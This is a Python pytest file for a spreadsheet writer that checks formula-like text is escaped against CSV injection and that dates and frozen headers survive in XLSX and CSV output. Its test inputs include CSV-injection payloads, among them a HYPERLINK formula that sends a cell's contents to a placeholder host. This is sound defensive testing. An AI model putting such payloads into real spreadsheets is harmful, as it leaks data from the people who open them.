"""The one spreadsheet writer: no text ever becomes a formula (OWASP CSV injection), dates stay dates,
the header is frozen and the columns have widths."""

import csv
import datetime as dt
import io

import pytest
from openpyxl import load_workbook

from xaydungdang.core.spreadsheets import Workbook, csv_bytes, escape, unescape, xlsx_bytes

ATTACKS = ['=HYPERLINK("http://x.example/?d="&A2,"Bấm vào đây")', "+84 912 345 678", "-1+1", "@SUM(A1)", "\t=1", "\r=1"]


@pytest.mark.parametrize("text", ATTACKS)
def test_formula_like_text_is_a_text_cell_in_xlsx(text):
    def write(workbook):
        sheet = workbook.sheet("S")
        sheet.header(["Họ và tên"])
        sheet.row([text])

    cell = load_workbook(io.BytesIO(xlsx_bytes(write))).active["A2"]
    assert cell.data_type == "s"
    assert cell.value.replace("_x000D_", "\r") == text  # XML keeps a carriage return as _x000D_
    assert cell.quotePrefix  # Excel keeps it text even when the cell is edited


@pytest.mark.parametrize("text", ATTACKS)
def test_formula_like_text_is_escaped_in_csv_and_read_back_unchanged(text):
    content = csv_bytes(["Họ và tên"], [[text], ["Võ Thị Mai"]])
    rows = list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")))
    assert rows[1] == ["'" + text]
    assert rows[2] == ["Võ Thị Mai"]
    assert unescape(rows[1][0]) == text


def test_plain_text_and_an_apostrophe_of_the_user_are_left_alone():
    assert escape("Võ Thị Mai") == "Võ Thị Mai"
    assert unescape("'Mai") == "'Mai"


def test_dates_stay_dates_and_the_header_is_frozen_with_widths():
    def write(workbook: Workbook):
        sheet = workbook.sheet("S", widths=[28, 12])
        sheet.title("Danh sách")
        sheet.header(["Họ và tên", "Ngày sinh"])
        sheet.row(["Võ Thị Mai", dt.date(1990, 4, 12)])

    sheet = load_workbook(io.BytesIO(xlsx_bytes(write))).active
    assert sheet["B3"].value == dt.datetime(1990, 4, 12)
    assert sheet["B3"].number_format == "dd/mm/yyyy"
    assert sheet.freeze_panes == "A3"
    assert sheet.column_dimensions["A"].width == pytest.approx(28, abs=1)
